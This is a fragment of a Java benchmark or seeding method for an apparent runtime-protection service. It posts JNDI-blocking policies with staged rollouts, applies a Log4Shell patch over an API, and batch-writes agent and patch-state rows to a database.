         * the newest, the log4shell patch to the exposed instances, and half of those report it active.
         */
        static void policies(Http http, ServerConfig config, List<String[]> agents) throws Exception {
            long s = System.nanoTime();
            Map<String, Object> policy = Map.of("version", "bench", "mode", "block", "aspects", Map.of("jndi", Map.of("rules", Map.of("jndi.remote-lookup", "block"))));
            for (String svc : SERVICES) {
                http.post("/v1/policies", Map.of("service", svc, "policy", policy));
                http.post("/v1/policies", Map.of("service", svc, "policy", policy, "target", Map.of("stages", List.of(10, 50, 100), "stageSeconds", 3600)));
            }
            http.post("/v1/patches/apply", Map.of("patch", "log4shell", "to", "exposed:CVE-2021-44228"));
            try (Connection c = DriverManager.getConnection(config.effectiveDbUrl())) {
                c.setAutoCommit(false);
                SplittableRandom rnd = new SplittableRandom(3);
                long now = System.currentTimeMillis();
                try (PreparedStatement up = c.prepareStatement("UPDATE agents SET applied_version = (SELECT last_version FROM services WHERE name = agents.service) - ?, applied_at = ? WHERE id = ?");
                     PreparedStatement patch = c.prepareStatement("INSERT INTO agent_patches (agent_id, patch_id, version, state, classes, detail, at, active_since) VALUES (?,?,?,?,1,NULL,?,?)")) {
                    int i = 0;
                    for (String[] a : agents) {
                        up.setLong(1, rnd.nextInt(100) < 80 ? 0 : 1);
                        up.setLong(2, now - rnd.nextInt(3_600_000));
                        up.setString(3, a[0]);
                        up.addBatch();
                        if (i % 5 == 0 && i % 10 == 0) { // half of the exposed (every fifth) agents run the patch
                            patch.setString(1, a[0]);
                            patch.setString(2, "log4shell-jndi-lookup");
                            patch.setLong(3, 3);
                            patch.setString(4, "active");
                            long since = now - rnd.nextInt(48 * 3_600_000);
                            patch.setLong(5, now);
                            patch.setLong(6, since);
                            patch.addBatch();
                        }
                        i++;
                    }
                    up.executeBatch();
                    patch.executeBatch();
                }
                c.commit();
            }
            System.out.printf("policies, staged rollouts, the log4shell patch over the API, ACKs and patch reports: %.1f s%n", (System.nanoTime() - s) / 1e9);
        }
    }
}
